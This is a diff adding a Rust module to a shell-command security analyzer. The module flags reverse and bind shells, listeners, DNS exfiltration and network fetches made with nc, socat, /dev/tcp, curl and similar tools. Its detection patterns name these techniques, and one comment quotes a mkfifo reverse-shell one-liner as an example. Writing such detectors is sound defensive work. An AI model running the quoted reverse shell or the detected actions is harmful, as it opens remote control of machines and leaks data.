@@ -1,0 +1,261 @@
+//! The network: fetches and remote access, DNS, listeners, shells wired to
+//! sockets, and data smuggled out in host names.
+
+use aq_shell::{Command, is_shell};
+
+use super::{Ctx, has_flag, operands, subcommand};
+use crate::catalog::RuleId;
+
+fn is_dev_tcp(path: &str) -> bool {
+    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
+}
+
+/// Whether an argument of socat runs a program.
+fn socat_exec(arg: &str) -> bool {
+    let l = arg.to_ascii_lowercase();
+    l.starts_with("exec:")
+        || l.starts_with("system:")
+        || l.contains(",exec:")
+        || l.starts_with("exec,")
+}
+
+fn nc_exec(c: &Command) -> bool {
+    c.args().iter().any(|a| {
+        matches!(
+            a.text.as_str(),
+            "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec"
+        ) || a.text.starts_with("--exec=")
+            || a.text.starts_with("--sh-exec=")
+            || a.text.starts_with("-e/")
+            || (a.text.starts_with('-')
+                && !a.text.starts_with("--")
+                && a.text.len() > 2
+                && a.text.ends_with('e')
+                && a.text[1..].chars().all(|c| c.is_ascii_alphabetic()))
+    })
+}
+
+fn nc_listens(c: &Command) -> bool {
+    c.args().iter().any(|a| {
+        a.text.starts_with('-') && !a.text.starts_with("--") && a.text.contains('l')
+            || a.text == "--listen"
+    })
+}
+
+pub(crate) fn check(ctx: &mut Ctx, i: usize) {
+    let c = &ctx.commands()[i];
+    // Bash's /dev/tcp and /dev/udp, on any command (`exec 3<>/dev/tcp/...`).
+    if let Some(r) = c.redirects.iter().find(|r| is_dev_tcp(&r.target.text)) {
+        let target = r.target.text.clone();
+        ctx.hit(
+            RuleId::NetReverseShell,
+            i,
+            format!("opens a socket with {target}"),
+        );
+        return;
+    }
+    let Some(name) = c.program().map(str::to_string) else {
+        return;
+    };
+    let c = &ctx.commands()[i];
+    match name.as_str() {
+        "nc" | "ncat" | "netcat" | "nc.openbsd" | "nc.traditional" => {
+            if nc_exec(c) {
+                let rule = if nc_listens(c) {
+                    RuleId::NetBindShell
+                } else {
+                    RuleId::NetReverseShell
+                };
+                ctx.hit(rule, i, format!("`{name}` attaches a program to a socket"));
+            } else if shell_wired(ctx, i) {
+                ctx.hit(
+                    RuleId::NetReverseShell,
+                    i,
+                    "a shell's input or output goes through this connection",
+                );
+            } else if nc_listens(c) {
+                ctx.hit(
+                    RuleId::NetListener,
+                    i,
+                    format!("`{name}` listens on a port"),
+                );
+            } else {
+                ctx.hit(RuleId::NetFetch, i, format!("`{name}` opens a connection"));
+            }
+        }
+        "socat" => {
+            let execs = c.args().iter().any(|a| socat_exec(&a.text));
+            let listens = c
+                .args()
+                .iter()
+                .any(|a| a.text.to_ascii_lowercase().contains("-listen:"));
+            if execs {
+                let rule = if listens {
+                    RuleId::NetBindShell
+                } else {
+                    RuleId::NetReverseShell
+                };
+                ctx.hit(rule, i, "socat attaches a program to a socket");
+            } else if listens {
+                ctx.hit(RuleId::NetListener, i, "socat listens on a port");
+            } else {
+                ctx.hit(RuleId::NetFetch, i, "socat opens a connection");
+            }
+        }
+        "telnet" | "openssl"
+            if name == "telnet"
+                || subcommand(c) == Some("s_client")
+                || subcommand(c) == Some("s_server") =>
+        {
+            if shell_wired(ctx, i) {
+                ctx.hit(
+                    RuleId::NetReverseShell,
+                    i,
+                    "a shell's input or output goes through this connection",
+                );
+            } else {
+                ctx.hit(RuleId::NetFetch, i, format!("`{name}` opens a connection"));
+            }
+        }
+        "dig" | "nslookup" | "host" | "drill" | "kdig" | "delv" | "resolvectl" | "whois" => {
+            if dns_name_from_output(ctx, i) {
+                ctx.hit(
+                    RuleId::NetDnsExfil,
+                    i,
+                    "the name looked up is built from command output",
+                );
+            } else {
+                ctx.hit(RuleId::NetDnsLookup, i, format!("`{}`", c.display()));
+            }
+        }
+        "ping" | "ping6" | "traceroute" | "tracepath" | "mtr" | "arping" | "fping" | "hping3" => {
+            if dns_name_from_output(ctx, i) {
+                ctx.hit(
+                    RuleId::NetDnsExfil,
+                    i,
+                    "the host name is built from command output",
+                );
+            } else {
+                ctx.hit(
+                    RuleId::NetFetch,
+                    i,
+                    format!("`{name}` sends packets to another host"),
+                );
+            }
+        }
+        "curl" | "wget" | "http" | "https" | "xh" | "curlie" | "httpie" | "aria2c" | "axel"
+        | "lynx" | "links" | "w3m" | "ftp" | "tftp" | "sftp" | "scp" | "ssh" | "mosh"
+        | "rclone" | "smbclient" | "ldapsearch" | "snmpwalk" | "mail" | "sendmail" | "mutt"
+        | "nmap" | "masscan" | "grpcurl" | "websocat" | "wscat" => {
+            if matches!(name.as_str(), "curl" | "wget") && dns_name_from_output(ctx, i) {
+                ctx.hit(
+                    RuleId::NetDnsExfil,
+                    i,
+                    "the host name is built from command output",
+                );
+            }
+            ctx.hit(
+                RuleId::NetFetch,
+                i,
+                format!("`{name}` talks to another host"),
+            );
+        }
+        "rsync" => {
+            if operands(c).iter().any(|o| is_remote_spec(&o.text)) {
+                ctx.hit(RuleId::NetFetch, i, "rsync copies to or from another host");
+            }
+        }
+        "git" => {
+            if matches!(
+                git_subcommand(c),
+                Some(
+                    "clone" | "ls-remote" | "archive" | "submodule" | "request-pull" | "send-email"
+                )
+            ) {
+                ctx.hit(
+                    RuleId::NetFetch,
+                    i,
+                    format!("`{}` talks to another host", c.display()),
+                );
+            }
+        }
+        _ => {}
+    }
+    // Interpreter servers: `python3 -m http.server`, `php -S`, `ruby -run -e httpd`.
+    let c = &ctx.commands()[i];
+    let listener = match name.as_str() {
+        n if n.starts_with("python") => c.args().windows(2).any(|w| {
+            w[0].text == "-m"
+                && matches!(
+                    w[1].text.as_str(),
+                    "http.server" | "SimpleHTTPServer" | "smtpd" | "pyftpdlib"
+                )
+        }),
+        "php" => has_flag(c, Some('S'), &[]),
+        "ruby" => c.args().iter().any(|a| a.text == "httpd"),
+        "busybox" => c
+            .args()
+            .iter()
+            .any(|a| a.text == "httpd" || a.text == "telnetd"),
+        _ => false,
+    };
+    if listener {
+        ctx.hit(
+            RuleId::NetListener,
+            i,
+            format!("`{}` serves files on a port", c.display()),
+        );
+    }
+}
+
+/// `git [global options] SUBCOMMAND`.
+pub(crate) fn git_subcommand(c: &Command) -> Option<&str> {
+    let args = c.args();
+    let mut k = 0;
+    while k < args.len() {
+        let t = args[k].text.as_str();
+        if matches!(
+            t,
+            "-C" | "-c"
+                | "--git-dir"
+                | "--work-tree"
+                | "--namespace"
+                | "--exec-path"
+                | "--config-env"
+        ) {
+            k += 2;
+            continue;
+        }
+        if t.starts_with('-') {
+            k += 1;
+            continue;
+        }
+        return Some(t);
+    }
+    None
+}
+
+fn is_remote_spec(s: &str) -> bool {
+    s.contains("::")
+        || s.starts_with("rsync://")
+        || s.split_once(':')
+            .is_some_and(|(host, _)| !host.is_empty() && !host.contains('/'))
+}
+
+/// A host-name argument that contains a substitution.
+fn dns_name_from_output(ctx: &Ctx, i: usize) -> bool {
+    let c = &ctx.commands()[i];
+    operands(c)
+        .iter()
+        .any(|o| !o.feeds.is_empty() && !o.text.starts_with('@'))
+        || c.args()
+            .iter()
+            .any(|o| !o.feeds.is_empty() && o.text.contains("$(") && o.text.contains('.'))
+}
+
+/// Whether a shell reads from, or writes into, this command through pipes
+/// (the `mkfifo` reverse shell: `cat f | sh -i 2>&1 | nc host port > f`).
+fn shell_wired(ctx: &Ctx, i: usize) -> bool {
+    let shells = |j: &usize| ctx.commands()[*j].program().is_some_and(is_shell);
+    ctx.upstream(i).iter().any(shells) || ctx.downstream(i).iter().any(shells)
+}
